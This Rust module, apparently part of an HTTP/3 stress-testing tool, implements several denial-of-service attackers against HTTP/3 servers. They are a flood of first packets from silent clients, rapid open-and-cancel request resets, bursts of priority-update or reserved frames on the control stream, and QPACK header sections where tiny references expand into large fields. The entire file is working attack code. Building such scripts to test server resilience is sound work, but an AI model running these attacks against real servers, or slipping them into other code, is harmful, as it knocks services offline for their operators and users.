//! Attackers that send more than a server can want.

use super::Script;
use crate::party::Party;
use http3::{Code, StreamId};
use octets::OctetsMut;
use std::time::Duration;

/// First packets of clients that never answer.
pub(crate) struct FirstPackets;

impl Script for FirstPackets {
    fn connections(&self) -> usize {
        0
    }

    fn sends_first_packets(&self) -> bool {
        true
    }
}

/// Requests that are taken back at once.
pub(crate) struct RapidReset(pub(crate) String);

impl Script for RapidReset {
    fn act(&mut self, _number: usize, party: &mut Party, _at: Duration) {
        for _ in 0..20 {
            let stream = StreamId(party.opened * 4);
            let sent = party.connection.request(stream, &party.get(&self.0, &[]), true);
            if !matches!(sent, Ok(true)) {
                return;
            }
            party.opened += 1;
            party.connection.shut(stream, Code::RequestCancelled);
        }
    }
}

/// Frames on the control stream.
pub(crate) struct ControlFrames {
    frame: Vec<u8>,
}

/// A client's control stream.
const CONTROL: u64 = 2;

impl ControlFrames {
    pub(crate) fn priority_updates() -> Self {
        Self { frame: frame(0xf_0700, b"\x00u=1") }
    }

    /// A type that is reserved for greasing (RFC 9114, 7.2.8).
    pub(crate) fn unknown() -> Self {
        Self { frame: frame(0x21, b"") }
    }
}

impl Script for ControlFrames {
    fn act(&mut self, _number: usize, party: &mut Party, _at: Duration) {
        let burst = self.frame.repeat(50);
        party.connection.send(StreamId(CONTROL), burst, false);
        party.connection.flush();
    }
}

/// Heads of 2 bytes a field that stand for 60.
pub(crate) struct LargeHeads;

impl Script for LargeHeads {
    fn act(&mut self, _number: usize, party: &mut Party, _at: Duration) {
        let stream = party.opened * 4;
        // Entry 85 of the static table of QPACK is a field of 76 bytes (RFC 9204, Appendix A).
        let mut section = vec![0, 0, 0xd1, 0xd7, 0xc1, 0x50, 0x01, b'a'];
        for _ in 0..3000 {
            section.extend([0xff, 22]);
        }
        if party.connection.quic.stream_send(stream, &frame(0x01, &section), true).is_ok() {
            party.opened += 1;
        }
    }
}

/// A frame of HTTP/3.
pub(super) fn frame(kind: u64, payload: &[u8]) -> Vec<u8> {
    let mut header = [0; 16];
    let mut octets = OctetsMut::with_slice(&mut header);
    // 16 bytes hold two numbers.
    octets.put_varint(kind).ok();
    octets.put_varint(payload.len() as u64).ok();
    let length = octets.off();
    [&header[..length], payload].concat()
}
